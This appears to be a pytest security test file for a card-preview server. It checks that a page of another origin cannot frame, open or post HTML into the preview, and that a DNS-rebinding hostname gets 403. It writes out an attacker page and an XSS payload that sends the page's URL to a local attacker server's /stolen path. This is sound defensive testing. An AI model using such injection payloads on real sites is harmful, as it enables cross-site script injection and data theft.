"""A web page of another origin must not drive the preview (issue 17): while `serve` runs, any
site the user visits could otherwise frame its card page and hand it HTML to show, script and all.

The attacker is a second web server on this machine, on another port: another origin. Its pages
frame or open the preview and post the message the preview's own page posts to refresh a card,
carrying HTML whose script reports to the attacker. Against `serve`, the headers refuse the
framing, and a page that opens the preview gets no handle on its frames; against the static site
served by a plain web server (no such headers), the scripts' own rule holds: a card frame takes
messages only from the page that holds it, of its own origin. A name of the attacker's own that
points at 127.0.0.1 (DNS rebinding) gets 403.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from ankismith.preview.serve import Server
from ankismith.preview.site import note_file_id, write_preview

from .origin import CHROMIUM_ARGS

DECK = {
    "deck.yaml": 'name: "Static"\nid: static\n',
    "cards.md": "## First {#first}\nOne.\n\n## Second {#second}\nTwo.\n",
}


class WebServer:
    """A plain local web server, on a port of its own: pages from memory or files from a folder,
    every path asked for recorded (a script that ran in a preview page reports to /stolen)."""

    def __init__(self, folder: Path | None = None) -> None:
        self.pages: dict[str, str] = {}
        self.asked: list[str] = []
        server = self

        class Handler(SimpleHTTPRequestHandler):
            def do_GET(self) -> None:
                server.asked.append(self.path)
                page = server.pages.get(self.path.split("?")[0])
                if page is None and folder is not None:
                    super().do_GET()
                    return
                body = (page or "").encode()
                self.send_response(200 if page is not None else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                return

        handler = partial(Handler, directory=str(folder)) if folder is not None else Handler
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.origin = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        Thread(target=self.httpd.serve_forever, daemon=True).start()

    def stolen(self) -> list[str]:
        return [path for path in self.asked if path.startswith("/stolen")]

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def attacker() -> Iterator[WebServer]:
    web = WebServer()
    yield web
    web.close()


def attack_script(attacker: WebServer, note_id: str, frame_id: str) -> str:
    """What the attacker posts, again and again: to card frames, a card whose HTML runs a script
    (the `refresh` message of the preview's page), a flip and a typed record; to a deck page, what
    its frames say (a height, a typeset side)."""
    html = (
        '<b id="owned">owned</b>'
        f'<img src="x" onerror="fetch(\'{attacker.origin}/stolen?\' + encodeURIComponent(location.href))">'
    )
    card = {"id": note_id, "sides": [{"ord": 0, "q": html, "a": html}]}
    to_frames = [
        {"type": "refresh", "card": card},
        {"type": "side", "side": "a"},
        {"type": "typed", "state": {"x": {"index": 0, "n": 1, "typed": "<b>x</b>", "time": 0}}},
    ]
    to_page = [{"type": "height", "frame": frame_id, "height": 4321}, {"type": "shown", "frame": frame_id, "side": "a"}]
    return f"""
      var toFrames = {json.dumps(to_frames)}, toPage = {json.dumps(to_page)};
      window.attack = function (win, frames) {{
        try {{
          toPage.forEach(function (m) {{ win.postMessage(m, "*"); }});
        }} catch (e) {{}}
        for (var i = 0; i < frames.length; i++) {{
          try {{
            toFrames.forEach(function (m) {{ frames[i].postMessage(m, "*"); }});
          }} catch (e) {{}}
        }}
      }};
    """


def framing_page(attacker: WebServer, victim: str, note_id: str) -> str:
    """A page of the attacker that frames a card page of the preview and keeps messaging it."""
    frame_id = f"{note_id}-0-q"
    src = f"{victim}/media/frame.html?n={note_id}&o=0&s=q&f={frame_id}"
    return f"""<!doctype html><html><body>
      <iframe id="victim" src="{src}" width="600" height="300"></iframe>
      <script>{attack_script(attacker, note_id, frame_id)}
        setInterval(function () {{
          var w = document.getElementById("victim").contentWindow;
          window.attack(w, [w]);
        }}, 100);
      </script></body></html>"""


def opening_page(attacker: WebServer, victim: str, note_id: str) -> str:
    """A page of the attacker that opens a deck page of the preview and messages it and its frames."""
    return f"""<!doctype html><html><body>
      <button id="open">open</button>
      <script>{attack_script(attacker, note_id, f"{note_id}-0-q")}
        document.getElementById("open").addEventListener("click", function () {{
          var w = window.open("{victim}");
          window.reached = 0;
          setInterval(function () {{
            try {{ window.reached = Math.max(window.reached, w.frames.length); }} catch (e) {{}}
            var frames = [];
            try {{ for (var i = 0; i < w.frames.length; i++) frames.push(w.frames[i]); }} catch (e) {{}}
            window.attack(w, frames);
          }}, 100);
        }});
      </script></body></html>"""


def owned(pages: list[Any]) -> list[str]:
    """The frames of these pages where the attacker's HTML was shown."""
    found = []
    for page in pages:
        for frame in page.frames:
            try:
                if frame.evaluate("() => !!document.getElementById('owned')"):
                    found.append(frame.url)
            except Exception:  # playwright's Error: a frame that is gone, or an error page, shows nothing
                continue
    return found


def wait_shown(page: Any, count: int) -> None:
    page.wait_for_function(f"() => document.querySelectorAll('iframe[data-shown]').length >= {count}", timeout=30_000)


def test_serve_refuses_to_be_framed_by_another_origin(
    server: tuple[Server, Path], attacker: WebServer, local_context: Any
) -> None:
    served, _ = server
    note_id = next(iter(served.site.notes))
    attacker.pages["/frame"] = framing_page(attacker, served.url.rstrip("/"), note_id)
    page = local_context().new_page()
    console: list[str] = []
    page.on("console", lambda message: console.append(message.text))
    page.goto(attacker.origin + "/frame")
    deadline = time.monotonic() + 15
    while not any("Refused to frame" in line or "frame-ancestors" in line for line in console):
        assert time.monotonic() < deadline, f"the frame was not refused: {console}"
        page.wait_for_timeout(100)
    page.wait_for_timeout(1500)  # messages keep coming meanwhile
    (child,) = page.main_frame.child_frames
    assert not child.url.startswith(served.url)  # an error page stands in its place
    assert owned([page]) == [] and attacker.stolen() == []


def test_a_page_that_opens_serve_cannot_message_its_frames(
    server: tuple[Server, Path], attacker: WebServer, local_context: Any
) -> None:
    served, _ = server
    note_id = next(iter(served.site.notes))
    attacker.pages["/open"] = opening_page(attacker, served.url + "decks/live.html", note_id)
    context = local_context()
    page = context.new_page()
    page.goto(attacker.origin + "/open")
    with context.expect_page() as opened:
        page.locator("#open").click()
    preview = opened.value
    wait_shown(preview, 4)
    page.wait_for_timeout(1500)  # messages keep coming meanwhile
    assert page.evaluate("window.reached") == 0  # no handle on the preview's frames
    assert owned([preview]) == [] and attacker.stolen() == []
    heights = preview.locator("iframe").evaluate_all("(frames) => frames.map((f) => f.style.height)")
    assert "4321px" not in heights
    assert preview.locator('iframe[data-shown="a"]').count() == 2  # the two backs, no front turned


@pytest.fixture
def static_site(tmp_path: Path) -> Iterator[tuple[WebServer, str]]:
    """The static preview served by a plain web server: none of serve's headers."""
    deck = tmp_path / "deck"
    deck.mkdir()
    for name, text in DECK.items():
        (deck / name).write_text(text)
    compiled, _ = write_preview([deck], tmp_path / "site", None)
    web = WebServer(tmp_path / "site")
    yield web, note_file_id(compiled.decks[0].notes[0].guid)
    web.close()


def test_a_card_frame_takes_messages_only_from_its_own_page(
    static_site: tuple[WebServer, str], attacker: WebServer, local_context: Any
) -> None:
    """Without serve's headers (the static site on any web server), another origin can frame a
    card page and open a deck page: the card frames still ignore what it posts."""
    victim, note_id = static_site
    attacker.pages["/frame"] = framing_page(attacker, victim.origin, note_id)
    attacker.pages["/open"] = opening_page(attacker, victim.origin + "/decks/static.html", note_id)
    context = local_context()
    page = context.new_page()
    page.goto(attacker.origin + "/frame")
    (child,) = page.main_frame.child_frames
    child.get_by_text("First").wait_for()  # framed, and showing its own card
    opener = context.new_page()
    opener.goto(attacker.origin + "/open")
    with context.expect_page() as opened:
        opener.locator("#open").click()
    preview = opened.value
    wait_shown(preview, 4)
    page.wait_for_timeout(1500)  # messages keep coming meanwhile
    assert opener.evaluate("window.reached") == 4  # it holds the frames: only their own rule stands
    assert owned([preview]) == [] and attacker.stolen() == []
    assert child.evaluate("() => document.getElementById('qa').innerText").strip().startswith("First")
    heights = preview.locator("iframe").evaluate_all("(frames) => frames.map((f) => f.style.height)")
    assert "4321px" not in heights
    assert preview.locator('iframe[data-shown="a"]').count() == 2
    # the same message from the deck page itself is shown, script and all: the rule, not the message, refused it
    preview.evaluate(
        f"""() => {{
          {attack_script(attacker, note_id, "")}
          window.attack(window, [document.querySelector("iframe").contentWindow]);
        }}"""
    )
    deadline = time.monotonic() + 10
    while not attacker.stolen():
        assert time.monotonic() < deadline, "the page's own message was not shown"
        preview.wait_for_timeout(50)  # not time.sleep: requests pass through this context's route
    assert len(owned([preview])) == 1


def test_a_name_pointed_at_this_machine_gets_403(server: tuple[Server, Path], browser: Any, chromium_path: str) -> None:
    """DNS rebinding in a real browser: rebind.test resolves to 127.0.0.1; its pages get 403, while
    the same server answers under its own names."""
    served, _ = server
    port = served.httpd.server_address[1]
    rules = "--host-resolver-rules=MAP rebind.test 127.0.0.1"
    other = browser.browser_type.launch(executable_path=chromium_path, headless=True, args=[*CHROMIUM_ARGS, rules])
    try:
        page = other.new_page()
        page.route(
            "**/*",
            lambda route: (
                route.continue_()
                if route.request.url.startswith((f"http://rebind.test:{port}/", f"http://localhost:{port}/"))
                else route.abort()
            ),
        )
        answer = page.goto(f"http://rebind.test:{port}/decks/live.html")
        assert answer is not None and answer.status == 403
        assert page.locator("article.entry").count() == 0
        events = page.evaluate(f"() => fetch('http://rebind.test:{port}/_events').then((r) => r.status)")
        assert events == 403
        answer = page.goto(f"http://localhost:{port}/decks/live.html")
        assert answer is not None and answer.status == 200
        page.locator("article.entry").first.wait_for()
    finally:
        other.close()
